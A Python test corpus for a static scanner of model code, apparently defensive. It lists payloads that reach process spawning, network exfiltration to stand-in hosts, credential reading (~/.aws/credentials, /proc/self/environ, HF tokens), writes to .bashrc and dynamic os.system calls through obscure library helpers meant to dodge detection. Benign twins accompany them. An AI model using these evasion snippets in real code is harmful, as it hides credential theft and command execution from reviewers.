"""The adaptive corpus, class capabilities through helpers: what an attacker who read
`scan/code/capabilities.py` writes to reach a capability without naming `subprocess`,
`socket`, `eval` or `os.environ`: helpers of the standard library, torch, huggingface_hub,
transformers, numpy and logging that spawn, connect, read credentials, write or load code,
reached through aliases, instances the rules cannot type, module constants and string pieces.

Each case names the capability its report must name (at `high` or above); each benign twin uses
the same helper the way published model code does and must stay below `medium`.
"""

from __future__ import annotations

# name -> (the capability words its finding must start with, payload)
CASES: dict[str, tuple[str, str]] = {
    # spawn
    "distutils-spawn-alias": ("spawn a process",
                              "from distutils.spawn import spawn as _s\n_s(['sh', '-c', 'id'])\n"),
    "pydoc-pipepager": ("spawn a process", "import pydoc\npydoc.pipepager('', 'sh -c id')\n"),
    "event-loop-subprocess": ("spawn a process",
                              "import asyncio\nasync def go():\n"
                              "    loop = asyncio.get_event_loop()\n"
                              "    await loop.subprocess_shell(asyncio.Protocol, 'id')\n"),
    "webbrowser-open": ("spawn a process", "import webbrowser as w\nw.open('http://e/x')\n"),
    "torch-multiprocessing": ("spawn a process",
                              "import torch.multiprocessing as tmp\ntmp.spawn(print)\n"),
    "uuid-command-helper": ("spawn a process",
                            "import uuid\nuuid._get_command_stdout('sh', '-c', 'id')\n"),
    "venv-with-pip": ("spawn a process",
                      "import venv\nvenv.create('/tmp/v', with_pip=True)\n"),
    # connect
    "model-zoo-load-url": ("load code or pickles, connect to the network",
                           "from torch.utils import model_zoo\nmodel_zoo.load_url('http://e/w.pt')\n"),
    "hub-download-url-to-file": ("connect to the network",
                                 "import torch.hub as th\n"
                                 "th.download_url_to_file('http://e/x', 'x')\n"),
    "hfapi-instance-upload": ("connect to the network",
                              "from huggingface_hub import HfApi\napi = HfApi()\n"
                              "api.upload_folder(folder_path='.', repo_id='e/x')\n"),
    "hf-create-commit": ("connect to the network",
                         "import huggingface_hub as hh\nhh.create_commit('e/x', [], 'm')\n"),
    "from-pretrained-constant-repo": ("connect to the network",
                                      "from transformers import AutoModel\nREPO = 'evil/payload'\n"
                                      "AutoModel.from_pretrained(REPO)\n"),
    "cached-file-other-repo": ("connect to the network",
                               "from transformers.utils import cached_file\n"
                               "cached_file('evil/x', 'modeling.py')\n"),
    "logging-http-handler": ("connect to the network",
                             "import logging, logging.handlers\nlogging.getLogger().addHandler("
                             "logging.handlers.HTTPHandler('e', '/log', method='POST'))\n"),
    "logging-socket-handler": ("connect to the network",
                               "from logging.handlers import SocketHandler as SH\n"
                               "import logging\nlogging.root.addHandler(SH('e', 9020))\n"),
    "numpy-loadtxt-url-pieces": ("connect to the network",
                                 "import numpy as np\nHOST = 'https://e'\n"
                                 "np.loadtxt(HOST + '/table.txt')\n"),
    "numpy-datasource": ("connect to the network",
                         "from numpy import DataSource\nDataSource(None).open('http://e/x')\n"),
    "tiktoken-get-encoding": ("connect to the network",
                              "import tiktoken\ntiktoken.get_encoding('cl100k_base')\n"),
    "torch-distributed-init": ("connect to the network",
                               "import torch.distributed as d\n"
                               "d.init_process_group('gloo', init_method='tcp://e:29500', rank=0,"
                               " world_size=2)\n"),
    "sentence-transformer-repo": ("connect to the network",
                                  "from sentence_transformers import SentenceTransformer as ST\n"
                                  "ST('evil/encoder')\n"),
    "torchvision-dataset-download": ("connect to the network",
                                     "from torchvision import datasets\n"
                                     "datasets.MNIST('data', download=True)\n"),
    "evaluate-load": ("connect to the network, load code or pickles",
                      "import evaluate\nevaluate.load('evil/metric')\n"),
    "wsgiref-server": ("connect to the network",
                       "from wsgiref.simple_server import make_server\n"
                       "make_server('', 8000, print).serve_forever()\n"),
    "boto3-client": ("connect to the network",
                     "import boto3\nboto3.client('s3').upload_file('a', 'b', 'c')\n"),
    "timm-pretrained": ("connect to the network",
                        "import timm\n"
                        "timm.create_model('vit_base_patch16_224', pretrained=True)\n"),
    # read credentials
    "hf-folder-get-token": ("read credentials",
                            "from huggingface_hub import HfFolder\nt = HfFolder.get_token()\n"),
    "hf-get-token-alias": ("read credentials",
                           "from huggingface_hub import get_token as g\nt = g()\n"),
    "aws-credentials-pieces": ("read credentials",
                               "import os\nD = '~/.aws'\n"
                               "t = open(os.path.expanduser(D + '/credentials')).read()\n"),
    "proc-environ": ("read credentials", "t = open('/proc/self/environ', 'rb').read()\n"),
    "netrc": ("read credentials", "import netrc\nt = netrc.netrc().hosts\n"),
    # write outside the folder
    "logging-file-handler": ("write files",
                             "import logging\nlogging.getLogger().addHandler("
                             "logging.FileHandler('/home/user/.bashrc'))\n"),
    "logging-basic-config": ("write files",
                             "import logging\nlogging.basicConfig(filename='~/.profile')\n"),
    "tempfile-dir-outside": ("write files",
                             "import tempfile\n"
                             "tempfile.mkstemp(dir='/home/user/.config/autostart')\n"),
    "sqlite-outside": ("write files", "import sqlite3\nsqlite3.connect('/tmp/../etc/x.db')\n"),
    "path-rename": ("write files",
                    "from pathlib import Path\nPath('x').rename(Path.home() / '.bashrc')\n"),
    # load code or pickles
    "torch-load-computed-switch": ("load code or pickles",
                                   "import torch\nSAFE = False\ndef load(p):\n"
                                   "    return torch.load(p, weights_only=SAFE or None)\n"),
    "numpy-read-array-pickle": ("load code or pickles",
                                "from numpy.lib import format as f\n"
                                "f.read_array(open('x.npy', 'rb'), allow_pickle=True)\n"),
    "torch-jit-load": ("load code or pickles", "import torch\ntorch.jit.load('x.pt')\n"),
    "torch-package": ("load code or pickles",
                      "from torch import package\npackage.PackageImporter('x.pt')\n"),
    "ctypeslib": ("load code or pickles",
                  "import numpy\nnumpy.ctypeslib.load_library('libx', '.')\n"),
    "logging-dict-config": ("load code or pickles",
                            "import logging.config as lc\nlc.dictConfig({'version': 1, "
                            "'handlers': {'h': {'()': 'os.system'}}})\n"),
    "pandas-read-hdf": ("load code or pickles",
                        "import pandas as pd\npd.read_hdf('store.h5', 'frame')\n"),
    "entry-points": ("load code or pickles",
                     "from importlib.metadata import entry_points\n"
                     "[e.load() for e in entry_points(group='x')]\n"),
    "hydra-instantiate": ("load code or pickles",
                          "from hydra.utils import instantiate\n"
                          "instantiate({'_target_': 'os.system'})\n"),
    # evaluate a string as code, dynamic attributes
    "timeit-statement": ("evaluate a string as code",
                         "import timeit\n"
                         "timeit.timeit('__import__(\"os\").system(\"id\")', number=1)\n"),
    "cprofile-run": ("evaluate a string as code", "import cProfile\ncProfile.run('x = 1')\n"),
    "jinja2-template": ("evaluate a string as code",
                        "import jinja2\njinja2.Template(open('t.txt').read()).render()\n"),
    "pandas-eval": ("evaluate a string as code", "import pandas as pd\npd.eval('1 + 1')\n"),
    "pydoc-locate": ("reach attributes by a computed name",
                     "import pydoc\npydoc.locate('o' + 's.sys' + 'tem')('id')\n"),
    # a name built of literals is folded: the call is os.system itself
    "getattr-concatenated": ("spawn a process",
                             "import os\ngetattr(os, 'sys' + 'tem')('id')\n"),
    "getattr-on-data-module-used": ("reach attributes by a computed name",
                                    "import torch\ndef f(cfg):\n"
                                    "    return getattr(torch, cfg.kind).load(cfg.repo, 'm')\n"),
    "unknown-receiver-system": ("spawn a process",
                                "import sys\ndef f(name):\n"
                                "    sys.modules.get(name).system('id')\n"),
    "hf-home-token": ("read credentials",
                      "import os\nfrom huggingface_hub import constants\n"
                      "t = open(os.path.join(constants.HF_HOME, 'token')).read()\n"),
    "tar-extract-outside": ("write files",
                            "import tarfile\ntarfile.open('a.tar').extract('m', '/usr/lib')\n"),
}

# name -> payload: the same helpers as published code uses them (must stay below medium).
TWINS: dict[str, str] = {
    "torch-load-weights-only": "import torch\ndef load(p):\n"
                               "    return torch.load(p, map_location='cpu', weights_only=True)\n",
    "numpy-load-plain": "import numpy as np\ndef load(p):\n    return np.load(p)\n",
    "from-pretrained-local": "from transformers import AutoTokenizer\ndef load(path):\n"
                             "    return AutoTokenizer.from_pretrained(path)\n",
    "from-pretrained-relative": "from transformers import AutoConfig\n"
                                "def load():\n    return AutoConfig.from_pretrained('./')\n",
    "logging-stream-handler": "import logging\nlogger = logging.getLogger(__name__)\n"
                              "logger.addHandler(logging.StreamHandler())\n",
    "tempfile-default-dir": "import tempfile\ndef scratch():\n"
                            "    return tempfile.mkdtemp()\n",
    "timm-untrained": "import timm\ndef build():\n"
                      "    return timm.create_model('vit_base_patch16_224', pretrained=False)\n",
    "torchvision-dataset-local": "from torchvision import datasets\ndef data(root):\n"
                                 "    return datasets.MNIST(root, download=False)\n",
    "sentence-transformer-local": "from sentence_transformers import SentenceTransformer\n"
                                  "def load(path):\n    return SentenceTransformer(path)\n",
    "numpy-loadtxt-local": "import numpy as np\ndef read(path):\n    return np.loadtxt(path)\n",
    "sandboxed-jinja2": "from jinja2.sandbox import ImmutableSandboxedEnvironment\n"
                        "def render(t, m):\n"
                        "    return ImmutableSandboxedEnvironment().from_string(t).render(m)\n",
    "platform-system": "import platform\ndef is_linux():\n"
                       "    return platform.system() == 'Linux'\n",
    "torch-distributed-rank": "import torch.distributed as dist\ndef rank():\n"
                              "    return dist.get_rank() if dist.is_initialized() else 0\n",
    "hf-hub-constants": "from huggingface_hub import constants\ndef cache():\n"
                        "    return constants.HF_HUB_CACHE\n",
    "literal-eval": "import ast\ndef parse(s):\n    return ast.literal_eval(s)\n",
    "getattr-over-activations": "import torch.nn.functional as F\ndef act(name):\n"
                                "    return getattr(F, name)\n",
}
